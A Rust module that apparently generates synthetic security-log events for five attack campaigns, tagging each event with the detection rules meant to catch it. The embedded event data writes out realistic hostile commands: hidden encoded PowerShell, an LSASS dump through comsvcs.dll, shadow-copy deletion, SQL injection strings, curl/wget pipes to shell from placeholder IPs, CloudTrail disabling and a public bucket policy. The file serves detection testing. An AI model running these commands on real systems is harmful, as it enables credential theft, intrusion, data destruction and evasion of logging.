//! Campaigns: what attackers do, in the order and at the pace in which they do it.

use super::super::Dice;
use super::background::{base32_like, base64_like, bucket_policy, powershell};
use super::shape::{
    cloud, dns, linux_file, linux_process, login, outside, person, proxy, web, windows_connection,
    windows_file, windows_process,
};
use serde_json::{Value, json};

/// One event of a campaign.
pub(super) struct Step {
    pub(super) at: u64,
    pub(super) name: &'static str,
    /// Numbers of the bundled rules that must find it.
    pub(super) rules: &'static [u8],
    pub(super) value: Value,
}

/// The steps of a campaign whose day begins at a second.
type Kind = fn(u64, &mut Dice) -> Vec<Step>;

const MINUTE: u64 = 60;
const HOUR: u64 = 3600;
const RUNDLL: &str = r"C:\Windows\System32\rundll32.exe";
const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

/// The campaign of a number, with its name. `day` is the second at which its day begins.
pub(super) fn campaign(number: usize, day: u64, dice: &mut Dice) -> (String, Vec<Step>) {
    let kinds: [(&str, Kind); 5] = [
        ("ransom", ransom),
        ("web-shell", web_shell),
        ("cloud-takeover", cloud_takeover),
        ("insider", insider),
        ("trojan", trojan),
    ];
    let (kind, steps) = kinds[number % kinds.len()];
    (format!("{kind}-{}", number / kinds.len() + 1), steps(day, dice))
}

/// A document opens a shell, the shell gets the passwords, and in the night the copies are deleted.
fn ransom(day: u64, dice: &mut Dice) -> Vec<Step> {
    let who = person("user", dice);
    let begin = day + 9 * HOUR + dice.below(6 * HOUR);
    let shell = powershell();
    let flag = dice.pick(&["-e", "-enc", "-EncodedCommand", "/ec"]);
    let command = format!("powershell.exe -nop -w hidden {flag} {}", base64_like(88, dice));
    let mut at = begin;
    let mut steps = vec![Step {
        at,
        name: "document starts a hidden script",
        rules: &[1, 2],
        value: windows_process(at, who, WORD, &shell, &command, dice),
    }];
    at += dice.between(2, 9) * MINUTE;
    steps.push(Step {
        at,
        name: "asks who it is",
        rules: &[],
        value: windows_process(at, who, &shell, r"C:\Windows\System32\whoami.exe", "whoami /all", dice),
    });
    at += dice.between(2, 9) * MINUTE;
    for _ in 0..dice.between(2, 4) {
        at += dice.between(5, 12) * MINUTE;
        let to = outside(dice);
        steps.push(Step {
            at,
            name: "calls home",
            rules: &[7],
            value: windows_connection(at, who, RUNDLL, &to, 443, dice),
        });
    }
    at += dice.between(10, 50) * MINUTE;
    let dump = dice.pick(&[
        "comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.bin full",
        "C:\\Windows\\System32\\comsvcs.dll,#24 712 C:\\Windows\\Temp\\d.bin full",
    ]);
    steps.push(Step {
        at,
        name: "writes the credential store to a file",
        rules: &[3],
        value: windows_process(at, who, &shell, RUNDLL, &format!("rundll32.exe {dump}"), dice),
    });
    at += dice.between(5, 30) * MINUTE;
    let task = format!(
        r"schtasks.exe {}create /f /tn Sync /tr C:\Users\{who}\AppData\Local\Temp\sync.exe /sc minute",
        dice.pick(&["/", "-"])
    );
    steps.push(Step {
        at,
        name: "stays",
        rules: &[4],
        value: windows_process(at, who, &shell, r"C:\Windows\System32\schtasks.exe", &task, dice),
    });
    let mut at = day + 25 * HOUR + dice.below(2 * HOUR);
    for victim in [who, person("user", dice), person("admin", dice)] {
        at += dice.between(1, 4) * MINUTE;
        let (image, command) = if dice.chance(50) {
            (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")
        } else {
            (r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive")
        };
        steps.push(Step {
            at,
            name: "deletes the shadow copies",
            rules: &[5],
            value: windows_process(at, victim, r"C:\Windows\System32\cmd.exe", image, command, dice),
        });
    }
    steps
}

/// The web shop is probed until it gives way, and its data leaves in names.
fn web_shell(day: u64, dice: &mut Dice) -> Vec<Step> {
    let (from, mut at) = (outside(dice), day + dice.below(20 * HOUR));
    let mut steps = Vec::new();
    for _ in 0..dice.between(3, 6) {
        at += dice.between(5, 90);
        steps.push(Step {
            at,
            name: "is refused",
            rules: &[],
            value: web(at, &from, "/search", "q=1%27+union+all+select+1,2,3--", 403, dice),
        });
    }
    for _ in 0..dice.between(2, 5) {
        at += dice.between(20, 200);
        let query = dice.pick(&[
            "id=1%27%20UnIoN%20SeLeCt%20login,hash%20FROM%20users--",
            "id=1+union/**/select+1,table_name+from+information_schema.tables",
            "id=1;select+pg_sleep(5)--",
        ]);
        steps.push(Step {
            at,
            name: "injects",
            rules: &[12],
            value: web(at, &from, "/products", query, 200, dice),
        });
    }
    at += dice.between(4, 15) * MINUTE;
    let fetch = dice.pick(&[
        "bash -c curl -fsSL http://198.51.100.77/x | bash",
        "sh -c wget -qO- http://203.0.113.9/i.sh | sudo sh",
    ]);
    steps.push(Step {
        at,
        name: "fetches a script",
        rules: &[10],
        value: linux_process(at, "shop-web-01", "www-data", "/usr/bin/bash", fetch, dice),
    });
    at += dice.between(1, 5) * MINUTE;
    steps.push(Step {
        at,
        name: "leaves a key",
        rules: &[11],
        value: linux_file(at, "shop-web-01", "www-data", "/usr/bin/bash", "/var/www/.ssh/authorized_keys"),
    });
    for _ in 0..dice.between(4, 9) {
        at += dice.between(10, 120);
        let length = dice.between(50, 60) as usize;
        let name = format!("{}.x{}.example.net", base32_like(length, dice), dice.below(10));
        steps.push(Step {
            at,
            name: "carries data out in names",
            rules: &[15],
            value: dns(at, "a.larsen", "-", &name),
        });
    }
    steps
}

/// Old accounts are tried until an administrator's works, and the cloud is opened.
fn cloud_takeover(day: u64, dice: &mut Dice) -> Vec<Step> {
    let mut at = day + 22 * HOUR + dice.below(30 * MINUTE);
    let mut steps = Vec::new();
    for _ in 0..dice.between(3, 8) {
        at += dice.between(20, 400);
        let who = dice.pick(&["t.formerly", "j.gone", "s.retired"]);
        steps.push(Step {
            at,
            name: "tries old accounts",
            rules: &[8],
            value: login(at, who, "login_failed", "account_disabled", &outside(dice)),
        });
    }
    let (who, from) = (person("admin", dice), outside(dice));
    at += dice.between(5, 40) * MINUTE;
    steps.push(Step {
        at,
        name: "logs in",
        rules: &[9],
        value: login(at, who, "login_success", "password", &from),
    });
    at += dice.between(2, 9) * MINUTE;
    steps.push(Step {
        at,
        name: "looks around",
        rules: &[],
        value: cloud(at, who, &from, ("iam.amazonaws.com", "ListUsers"), &Value::Null, None),
    });
    at += dice.between(2, 9) * MINUTE;
    let stop = dice.pick(&["StopLogging", "DeleteTrail"]);
    steps.push(Step {
        at,
        name: "blinds the log",
        rules: &[13],
        value: cloud(at, who, &from, ("cloudtrail.amazonaws.com", stop), &json!({"name": "main"}), None),
    });
    at += dice.between(2, 9) * MINUTE;
    steps.push(Step {
        at,
        name: "opens a bucket",
        rules: &[14],
        value: cloud(at, who, &from, ("s3.amazonaws.com", "PutBucketPolicy"), &bucket_policy("*"), None),
    });
    steps
}

/// Somebody who is about to leave takes files along.
fn insider(day: u64, dice: &mut Dice) -> Vec<Step> {
    let (who, mut at) = (person("user", dice), day + 23 * HOUR);
    (0..dice.between(3, 6))
        .map(|_| {
            at += dice.between(10, 50) * MINUTE;
            let sent = dice.between(250_000_000, 2_000_000_000);
            Step {
                at,
                name: "uploads at night",
                rules: &[16],
                value: proxy(at, who, "POST", "drive.example.com", sent, dice),
            }
        })
        .collect()
}

/// A program that calls itself a document.
fn trojan(day: u64, dice: &mut Dice) -> Vec<Step> {
    let who = person("user", dice);
    let at = day + 10 * HOUR + dice.below(5 * HOUR);
    let name = dice.pick(&["Invoice_2026.pdf.exe", "offer.docx.scr", "photo.jpg   .exe", "minutes.xlsx.js"]);
    let target = format!(r"C:\Users\{who}\Downloads\{name}");
    let browser = r"C:\Program Files\Mozilla Firefox\firefox.exe";
    let later = at + dice.between(1, 9) * MINUTE;
    vec![
        Step { at, name: "arrives", rules: &[6], value: windows_file(at, who, browser, &target, dice) },
        Step {
            at: later,
            name: "is opened",
            rules: &[],
            value: windows_process(
                later,
                who,
                r"C:\Windows\explorer.exe",
                &target,
                &format!("\"{target}\""),
                dice,
            ),
        },
    ]
}
